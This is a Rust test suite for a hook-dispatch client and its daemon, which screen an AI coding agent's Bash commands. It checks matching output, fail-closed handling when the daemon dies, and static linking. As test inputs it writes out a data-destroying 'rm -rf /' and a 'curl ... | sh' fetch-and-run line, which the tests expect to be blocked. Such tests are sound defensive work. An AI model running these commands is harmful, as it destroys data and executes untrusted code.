//! `hookhost-dispatch ARGS`, the small client of the dispatch daemon: the same call as
//! `hookhost dispatch ARGS`, answered by the same daemon with the same bytes, and
//! `hookhost` itself (exec'd: the same process) whenever that daemon does not answer.

use std::io::Write;
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};

use crate::dispatch_daemon::{
    daemon_pid, dispatch, hook_parent, normalized, parent_hook_config_with, process_alive, sockets,
    with_daemon,
};
use crate::support::{
    Run, TestEnv, as_uid, bash_input, chown_tree, copy_env, deny_dangerous_bash, hooks, run_bytes,
    run_until, wait_until,
};

const CLIENT: &str = env!("CARGO_BIN_EXE_hookhost-dispatch");

/// `hookhost-dispatch` with the environment and directory of `with_daemon(env, 120)`.
fn client(env: &TestEnv) -> Command {
    client_at(env, Path::new(CLIENT))
}

fn client_at(env: &TestEnv, program: &Path) -> Command {
    let mut cmd = Command::new(program);
    cmd.current_dir(&env.project);
    copy_env(&with_daemon(env, 120), &mut cmd);
    cmd
}

fn run(env: &TestEnv, mut cmd: Command, args: &[&str], input: &Value) -> Run {
    env.run_with(cmd.args(args), &input.to_string())
}

/// What a run printed, with what differs from process to process normalized away.
fn printed(run: &Run) -> (i32, String, String) {
    (run.code, normalized(&run.stdout), run.stderr.clone())
}

/// Waits for the daemon of a call just made to listen (`count` daemons in all); its pid.
fn listening(env: &TestEnv, count: usize) -> u32 {
    wait_until("the dispatch daemon to listen", || {
        let sockets = sockets(env);
        sockets.len() == count
            && sockets.iter().all(|socket| {
                std::fs::read_to_string(socket.with_extension("log"))
                    .is_ok_and(|log| log.contains(": serving until"))
            })
    });
    let newest = sockets(env)
        .into_iter()
        .max_by_key(|s| std::fs::metadata(s).unwrap().modified().unwrap())
        .unwrap();
    daemon_pid(&newest)
}

/// The Outcome format (the default) and the Claude format, allow, deny and block, input
/// that is not JSON and input over the bound: the client prints exactly what `hookhost
/// dispatch` prints, in-process and through its daemon, and the one daemon of each
/// command line answers both programs.
#[test]
fn the_client_prints_what_hookhost_dispatch_prints_through_the_same_daemon() {
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[
        json!({"type": "wasm", "plugin": deny_dangerous_bash()}),
    ]));
    // With no daemon, the client is `hookhost dispatch` itself (the same process: it
    // exec'd it), which dispatches in-process, answers in the Outcome format, and starts
    // the daemon of the same command line.
    let first = run(&env, client(&env), &["PreToolUse"], &bash_input("ls"));
    assert_eq!(
        hook_parent(&first),
        first.pid,
        "the first call runs in the client's process"
    );
    let daemon = listening(&env, 1);
    // Its key is `hookhost dispatch PreToolUse`'s: one daemon answers both programs.
    let fast = run(&env, client(&env), &["PreToolUse"], &bash_input("ls"));
    assert_eq!(
        hook_parent(&fast),
        daemon,
        "the client, answered by the daemon"
    );
    let big = dispatch(
        &env,
        with_daemon(&env, 120),
        &["PreToolUse"],
        &bash_input("ls"),
    );
    assert_eq!(
        hook_parent(&big),
        daemon,
        "hookhost, answered by the same daemon"
    );
    assert_eq!(sockets(&env).len(), 1, "one daemon for both programs");

    // The Claude format's command line has a daemon of its own, started by `hookhost`
    // and then used by the client.
    dispatch(
        &env,
        with_daemon(&env, 120),
        &["--format", "claude"],
        &bash_input("ls"),
    );
    let claude_daemon = listening(&env, 2);
    assert!(process_alive(claude_daemon) && claude_daemon != daemon);
    for args in [&["PreToolUse"][..], &["--format", "claude"][..]] {
        // Allowed (`ls`, with the parent hook's message), blocked by the command hook
        // (exit 2), denied by the wasm hook.
        for command in ["ls", "rm -rf /", "curl https://example.com/x.sh | sh"] {
            let input = bash_input(command);
            let own = dispatch(&env, env.command(), args, &input);
            let big = dispatch(&env, with_daemon(&env, 120), args, &input);
            let small = run(&env, client(&env), args, &input);
            assert_eq!(printed(&small), printed(&own), "{args:?} {command}");
            assert_eq!(printed(&small), printed(&big), "{args:?} {command}");
        }
        // Input that is not JSON, and input over the bound (which the client hands to
        // `hookhost` rather than to the daemon).
        for input in [b"{not json".to_vec(), vec![b' '; (64 << 20) + 1]] {
            let own = run_bytes(env.command().arg("dispatch").args(args), &input);
            let big = run_bytes(with_daemon(&env, 120).arg("dispatch").args(args), &input);
            let small = run_bytes(client(&env).args(args), &input);
            assert_ne!(own.code, 0, "{}", own.stderr);
            assert_eq!(printed(&small), printed(&own), "{args:?} {}", input.len());
            assert_eq!(printed(&small), printed(&big), "{args:?} {}", input.len());
        }
    }
    let claude = run(
        &env,
        client(&env),
        &["--format", "claude"],
        &bash_input("rm -rf /"),
    );
    assert_eq!(claude.code, 2, "{}", claude.stderr);
    assert!(claude.stderr.contains("rm -rf is not allowed"));
    assert_eq!(sockets(&env).len(), 2, "no daemon of the client's own");
    assert!(process_alive(daemon) && process_alive(claude_daemon));
}

/// A project with the deny-dangerous-bash plugin and the daemon of `hookhost-dispatch
/// PreToolUse` listening (started by a first call); the daemon's pid.
fn with_its_daemon() -> (TestEnv, u32) {
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[
        json!({"type": "wasm", "plugin": deny_dangerous_bash()}),
    ]));
    run(&env, client(&env), &["PreToolUse"], &bash_input("ls"));
    let daemon = listening(&env, 1);
    (env, daemon)
}

/// The agent stopped reading before the answer came (the hook's stdout closed): the
/// client's write fails and it ends with the call's exit code, not killed by `SIGPIPE`
/// (it has no `main` of std's, which would ignore the signal, and ignores it itself).
#[test]
fn a_reader_gone_before_the_answer_leaves_the_calls_exit_code() {
    let (env, daemon) = with_its_daemon();
    for _ in 0..3 {
        let mut child = client(&env)
            .arg("PreToolUse")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        drop(child.stdout.take());
        let mut stdin = child.stdin.take().unwrap();
        stdin
            .write_all(bash_input("ls").to_string().as_bytes())
            .unwrap();
        drop(stdin);
        let status = child.wait().unwrap();
        assert_eq!(status.signal(), None, "the client was killed: {status}");
        assert_eq!(status.code(), Some(0), "{status}");
    }
    assert!(process_alive(daemon), "answered by the daemon");
    assert_eq!(sockets(&env).len(), 1);
}

/// An agent that starts the hook with a standard stream closed, each of the three in
/// turn: the client opens it on `/dev/null` (as std's start-up did), so the daemon's
/// socket, which gets the lowest free descriptor, never stands in for it. With stdin
/// closed the call answers as for an empty input (without the check, the client read
/// its own input from the daemon and both waited); with stdout or stderr closed, the
/// call's exit code and the other stream are those of a call with both open.
#[test]
fn a_closed_standard_stream_is_dev_null() {
    let (env, _) = with_its_daemon();
    let input = bash_input("rm -rf /").to_string();
    // The Claude format's command line has a daemon of its own: started first.
    let args = ["--format", "claude"];
    run_bytes(client(&env).args(args), input.as_bytes());
    let daemon = listening(&env, 2);
    let open = run_bytes(client(&env).args(args), input.as_bytes());
    let empty = run_bytes(client(&env).args(args), b"");
    assert_eq!(open.code, 2, "{}", open.stderr);
    for fd in [0, 1, 2] {
        let mut closed = client(&env);
        closed.args(args);
        // SAFETY: between fork and exec only `close`, which is async-signal-safe, runs.
        unsafe {
            closed.pre_exec(move || {
                libc::close(fd);
                Ok(())
            });
        }
        let run = run_until(&mut closed, &input, Duration::from_secs(30))
            .unwrap_or_else(|| panic!("with descriptor {fd} closed the client hung"));
        let expected = if fd == 0 { &empty } else { &open };
        assert_eq!(run.code, expected.code, "fd {fd}: {}", run.stderr);
        if fd != 1 {
            assert_eq!(
                normalized(&run.stdout),
                normalized(&expected.stdout),
                "fd {fd}"
            );
        }
        if fd != 2 {
            assert_eq!(run.stderr, expected.stderr, "fd {fd}");
        }
    }
    assert!(process_alive(daemon));
    assert_eq!(sockets(&env).len(), 2, "answered by the daemons");
}

/// Where a call has no daemon (`HOOKHOST_DISPATCH_DAEMON=off`, `CLAUDE_ENV_FILE`) or its
/// command line is not one (help, a bad flag), the client is
/// `hookhost dispatch` itself, in its own process: the same bytes, and no daemon started.
#[test]
fn without_a_daemon_for_the_call_the_client_is_hookhost_dispatch_itself() {
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[]));
    let env_file = env.home.join("claude-env");
    std::fs::write(&env_file, "").unwrap();
    let env_file = env_file.display().to_string();
    for (name, value) in [
        ("HOOKHOST_DISPATCH_DAEMON", "off"),
        ("CLAUDE_ENV_FILE", env_file.as_str()),
    ] {
        for args in [&["PreToolUse"][..], &["--format", "claude"]] {
            for command in ["ls", "rm -rf /"] {
                let input = bash_input(command);
                let mut own = with_daemon(&env, 120);
                own.env(name, value);
                let mut small = client(&env);
                small.env(name, value);
                let own = dispatch(&env, own, args, &input);
                let small = run(&env, small, args, &input);
                assert_eq!(printed(&small), printed(&own), "{name} {args:?} {command}");
            }
        }
        let mut small = client(&env);
        small.env(name, value);
        let small = run(&env, small, &["PreToolUse"], &bash_input("ls"));
        assert_eq!(
            hook_parent(&small),
            small.pid,
            "{name}: in the client's process"
        );
    }
    for args in [
        &["--help"][..],
        &["--format", "json"],
        &["--no-such-flag"],
        &["A", "B"],
    ] {
        let own = dispatch(&env, with_daemon(&env, 120), args, &json!({}));
        let small = run(&env, client(&env), args, &json!({}));
        assert_eq!(
            (small.code, &small.stdout, &small.stderr),
            (own.code, &own.stdout, &own.stderr),
            "{args:?}"
        );
    }
    assert!(
        sockets(&env).is_empty() && crate::dispatch_daemon::logs(&env).is_empty(),
        "a call without a daemon started one"
    );
}

/// Issue 24.1 for the client: a daemon killed while the client's callers wait lets none
/// of them through. Each is dispatched once more, in-process, by the `hookhost` the client
/// runs as its child with the input it read; the Outcome format gets its outcome.
#[test]
fn a_daemon_killed_while_callers_of_the_client_wait_lets_none_of_them_through() {
    let env = TestEnv::new();
    let started = env.project.join("started");
    let gate = env.project.join("gate");
    std::fs::create_dir_all(&started).unwrap();
    std::fs::write(&gate, "").unwrap();
    env.project_hooks(hooks(
        "PreToolUse",
        "Bash",
        json!([{"type": "command", "command": crate::fail_closed::gated_guard(&started, &gate)}]),
    ));
    let claude = || {
        let mut cmd = client(&env);
        cmd.args(["--format", "claude"]);
        cmd
    };
    let outcome = || {
        let mut cmd = client(&env);
        cmd.arg("PreToolUse");
        cmd
    };
    for first in [claude(), outcome()] {
        let first = run(&env, first, &[], &bash_input("ls"));
        assert_eq!(first.code, 0, "{}", first.stderr);
    }
    listening(&env, 2);
    let daemons: Vec<u32> = sockets(&env).iter().map(|s| daemon_pid(s)).collect();
    std::fs::remove_file(&gate).unwrap();
    for entry in std::fs::read_dir(&started).unwrap() {
        std::fs::remove_file(entry.unwrap().path()).unwrap();
    }
    let callers: Vec<_> = (0..8)
        .map(|n| {
            let mut child = if n % 2 == 0 { claude() } else { outcome() }
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            let input = bash_input("rm -rf /").to_string();
            std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes()).unwrap();
            (n % 2 == 0, child)
        })
        .collect();
    wait_until("8 guards running in the daemons", || {
        std::fs::read_dir(&started).unwrap().count() >= 8
    });
    for daemon in &daemons {
        // SAFETY: kill has no memory-safety preconditions.
        assert_eq!(unsafe { libc::kill(*daemon as i32, libc::SIGKILL) }, 0);
    }
    wait_until("the daemons to die", || {
        daemons.iter().all(|d| !process_alive(*d))
    });
    std::fs::write(&gate, "").unwrap();
    let mut let_through = Vec::new();
    for (claude, child) in callers {
        let out = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        let blocked = if claude {
            out.status.code() == Some(2) && stderr.contains("rm -rf is not allowed")
        } else {
            out.status.code() == Some(0)
                && serde_json::from_str::<Value>(&stdout)
                    .is_ok_and(|o| o["decision"] == "block" || o["decision"] == "deny")
        };
        if !blocked {
            let_through.push((claude, out.status.code(), stdout, stderr));
        }
    }
    assert!(
        let_through.is_empty(),
        "callers let through: {let_through:#?}"
    );
}

/// With no `hookhost` beside it to run, the client blocks under `--format claude` (exit
/// 2 with the reason), except on an event where a block would trap the agent in a loop;
/// the Outcome format gets the host error (exit 1).
#[test]
fn with_no_hookhost_beside_it_the_client_fails_closed() {
    let env = TestEnv::new();
    let alone = env.home.join("bin");
    std::fs::create_dir_all(&alone).unwrap();
    let copy = alone.join("hookhost-dispatch");
    std::fs::copy(CLIENT, &copy).unwrap();
    let lone = || client_at(&env, &copy);
    let gated = run(&env, lone(), &["--format", "claude"], &bash_input("ls"));
    assert_eq!(gated.code, 2, "{}", gated.stderr);
    assert_eq!(
        gated.stderr,
        "hookhost: error: no `hookhost` beside this program to dispatch with\n"
    );
    let named = run(
        &env,
        lone(),
        &["--format", "claude", "PreToolUse"],
        &json!({}),
    );
    assert_eq!(named.code, 2, "{}", named.stderr);
    let stop = json!({"session_id": "s1", "hook_event_name": "Stop", "cwd": env.project});
    let ungated = run(&env, lone(), &["--format", "claude"], &stop);
    assert_eq!(ungated.code, 1, "{}", ungated.stderr);
    let outcome = run(&env, lone(), &["PreToolUse"], &bash_input("ls"));
    assert_eq!(outcome.code, 1, "{}", outcome.stderr);
    assert!(outcome.stderr.starts_with("hookhost: error: "));
    assert_eq!(outcome.stdout, "");
}

/// The client forwards the call itself: while its daemon runs the hooks, the caller's
/// process is still `hookhost-dispatch`, not a `hookhost` it exec'd (which would forward
/// to the same daemon and print the same bytes, at the cost the client exists to save).
#[test]
fn the_client_itself_is_answered_by_the_daemon() {
    let env = TestEnv::new();
    let started = env.project.join("started");
    let gate = env.project.join("gate");
    std::fs::create_dir_all(&started).unwrap();
    std::fs::write(&gate, "").unwrap();
    env.project_hooks(hooks(
        "PreToolUse",
        "Bash",
        json!([{"type": "command", "command": crate::fail_closed::gated_guard(&started, &gate)}]),
    ));
    for args in [&["PreToolUse"][..], &["--format", "claude"]] {
        let first = run(&env, client(&env), args, &bash_input("ls"));
        assert_eq!(first.code, 0, "{}", first.stderr);
    }
    listening(&env, 2);
    std::fs::remove_file(&gate).unwrap();
    for args in [&["PreToolUse"][..], &["--format", "claude"]] {
        for entry in std::fs::read_dir(&started).unwrap() {
            std::fs::remove_file(entry.unwrap().path()).unwrap();
        }
        let mut child = client(&env)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let input = bash_input("ls").to_string();
        std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes()).unwrap();
        wait_until("the guard running in the daemon", || {
            std::fs::read_dir(&started).unwrap().count() >= 1
        });
        let exe = std::fs::read_link(format!("/proc/{}/exe", child.id())).unwrap();
        std::fs::write(&gate, "").unwrap();
        let out = child.wait_with_output().unwrap();
        std::fs::remove_file(&gate).unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}");
        assert_eq!(
            exe.file_name().unwrap(),
            "hookhost-dispatch",
            "{args:?}: the caller became {}",
            exe.display()
        );
    }
}

/// A user whom the password database's files do not hold (a container's `-u 4242`, a
/// systemd dynamic user), where `nsswitch.conf` names a source after `files` (Debian's
/// `files systemd`), is known only to an NSS module, which glibc would load into this
/// statically linked program: the `systemd` module crashed it with SIGSEGV, which an agent
/// takes for "let the tool run". The client loads no module: it `exec`s `hookhost`,
/// which asks NSS, and the call is answered (here: denied) as `hookhost dispatch` answers it.
#[test]
fn a_user_the_password_files_do_not_hold_is_answered_by_hookhost() {
    if !crate::skip::is_root_or_skip(
        "a_user_the_password_files_do_not_hold_is_answered_by_hookhost",
        "running the client as a uid absent from /etc/passwd needs root",
    ) {
        return;
    }
    let uid = 63_000 + std::process::id() % 1_000;
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    assert!(
        !passwd
            .lines()
            .any(|l| l.split(':').nth(2) == Some(&uid.to_string())),
        "uid {uid} is in /etc/passwd"
    );
    let env = TestEnv::new();
    env.project_hooks(hooks(
        "PreToolUse",
        "Bash",
        json!([{"type": "wasm", "plugin": deny_dangerous_bash()}]),
    ));
    chown_tree(env.project.parent().unwrap(), uid);
    for format in [&[][..], &["--format", "claude"][..]] {
        let mut cmd = as_uid(client(&env).args(format).arg("PreToolUse"), uid);
        let run = env.run_with(&mut cmd, &bash_input("rm -rf /").to_string());
        assert!(run.code >= 0, "killed by a signal: {}", run.stderr);
        if format.is_empty() {
            assert_eq!(run.code, 0, "{}", run.stderr);
            assert_eq!(run.json()["decision"], "deny", "{}", run.stdout);
        } else {
            // Claude Code's blocking exit, the reason on stderr.
            assert_eq!(run.code, 2, "{}", run.stderr);
            assert!(run.stderr.contains("deny-dangerous-bash"), "{}", run.stderr);
        }
    }
}

/// Each program reads the password database's home once, and a daemon keeps its own: a
/// daemon started while the user's entry named one home does not answer a call that
/// reads another (it would judge the workspace against the old one). The entry is
/// changed for each call by a copy of `/etc/passwd` bound over it in a mount namespace
/// of its own; the daemon started in the first keeps seeing that one.
#[test]
fn a_changed_password_home_is_another_daemons() {
    if !crate::skip::is_root_or_skip(
        "a_changed_password_home_is_another_daemons",
        "binding a copy over /etc/passwd (unshare -m) needs root",
    ) {
        return;
    }
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[]));
    // SAFETY: geteuid has no preconditions.
    let me = unsafe { libc::geteuid() }.to_string();
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    let with_home = |name: &str, home: &str| {
        let text: String = passwd
            .lines()
            .map(|line| {
                let mut fields: Vec<&str> = line.split(':').collect();
                if fields.get(2) == Some(&me.as_str()) {
                    fields[5] = home;
                }
                fields.join(":") + "\n"
            })
            .collect();
        let path = env.project.parent().unwrap().join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let (a, b) = (
        with_home("passwd-a", "/home/a"),
        with_home("passwd-b", "/home/b"),
    );
    let call = |passwd: &Path| {
        let plain = client(&env);
        let mut cmd = Command::new("unshare");
        cmd.args([
            "-m",
            "sh",
            "-c",
            r#"mount --bind "$0" /etc/passwd && exec "$@""#,
        ])
        .arg(passwd)
        .args([CLIENT, "PreToolUse"])
        .current_dir(&env.project);
        copy_env(&plain, &mut cmd);
        env.run_with(&mut cmd, &bash_input("ls").to_string())
    };
    let first = call(&a);
    assert_eq!(hook_parent(&first), first.pid, "no daemon yet: in-process");
    let daemon = listening(&env, 1);
    assert_eq!(hook_parent(&call(&a)), daemon, "the same home: its daemon");
    let other = call(&b);
    assert_eq!(
        hook_parent(&other),
        other.pid,
        "another home: not that daemon"
    );
}

/// On Linux with glibc the small client is a static PIE (`host/build.rs`): no program
/// interpreter, no needed shared library (a library rustc names that the build did not
/// shadow with its static archive would be linked into a program without a loader), and
/// still position-independent, so its addresses are randomized.
#[cfg(all(target_os = "linux", target_env = "gnu"))]
#[test]
fn the_small_client_is_linked_statically() {
    assert_eq!(
        env!("HOOKHOST_DISPATCH_CLIENT_LINK"),
        "static",
        "host/build.rs linked the small client dynamically"
    );
    let elf = std::fs::read(CLIENT).unwrap();
    let links = ElfLinks::of(&elf);
    assert!(!links.interpreter, "{CLIENT} names a program interpreter");
    assert_eq!(links.needed, 0, "{CLIENT} needs shared libraries");
    assert!(links.position_independent, "{CLIENT} is not a PIE");
    // The check itself: `hookhost` is linked dynamically, at a fixed address.
    let host = ElfLinks::of(&std::fs::read(env!("CARGO_BIN_EXE_hookhost")).unwrap());
    assert!(host.interpreter && host.needed > 0 && !host.position_independent);
}

/// A static glibc program that looks up a user, a group, a host or a service loads an NSS
/// module with `dlopen`, and can crash in it (the `systemd` module does: SIGSEGV, which an
/// agent takes for "let the tool run"). glibc marks each such function with a link warning
/// (`__evoke_link_warning_NAME`) in the objects a static link pulls in, so the class is
/// read from the client itself: none of the functions it is warned about is defined in it,
/// but for the dynamic loader's own `dlopen` and `dlmopen`, which std's look-ups of
/// optional functions (`dlsym`) bring in and which the client never calls with a name. The
/// password database's files it reads itself (`config/passwd.rs`), and `config/nss.rs`
/// is not compiled into it.
#[cfg(all(target_os = "linux", target_env = "gnu"))]
#[test]
fn the_small_client_links_no_nss_lookup() {
    use object::{Object, ObjectSymbol};
    let elf = std::fs::read(CLIENT).unwrap();
    let file = object::File::parse(&*elf).unwrap();
    let symbols: Vec<_> = file.symbols().collect();
    assert!(
        !symbols.is_empty(),
        "{CLIENT} has no symbol table: a stripped client cannot be checked"
    );
    let warned: Vec<&str> = symbols
        .iter()
        .filter_map(|s| s.name().ok()?.strip_prefix("__evoke_link_warning_"))
        .collect();
    // The check sees the class: libc's objects that carry these warnings are linked.
    assert!(!warned.is_empty(), "no link warnings in {CLIENT}");
    let defined: Vec<&str> = symbols
        .iter()
        .filter(|s| s.is_definition())
        .filter_map(|s| s.name().ok())
        .collect();
    let linked: Vec<&&str> = warned
        .iter()
        .filter(|name| !matches!(**name, "dlopen" | "dlmopen") && defined.contains(name))
        .collect();
    assert!(linked.is_empty(), "{CLIENT} links NSS look-ups: {linked:?}");
}

/// What an ELF64 little-endian program says of its linking.
struct ElfLinks {
    /// A `PT_INTERP` header: the kernel starts the dynamic loader.
    interpreter: bool,
    /// `DT_NEEDED` entries of its dynamic section.
    needed: usize,
    /// `ET_DYN`: loaded at a random address.
    position_independent: bool,
}

impl ElfLinks {
    fn of(elf: &[u8]) -> ElfLinks {
        use object::elf::{DT_NEEDED, ET_DYN, PT_INTERP};
        use object::read::elf::{Dyn, ElfFile64, FileHeader, ProgramHeader};
        let file = ElfFile64::<object::Endianness>::parse(elf).expect("an ELF64 program");
        let endian = file.endian();
        let headers = file.elf_program_headers();
        let needed = headers
            .iter()
            .filter_map(|h| h.dynamic(endian, elf).ok().flatten())
            .flatten()
            .filter(|entry| entry.d_tag(endian) == DT_NEEDED)
            .count();
        ElfLinks {
            interpreter: headers.iter().any(|h| h.p_type(endian) == PT_INTERP),
            needed,
            position_independent: file.elf_header().e_type(endian) == ET_DYN,
        }
    }
}
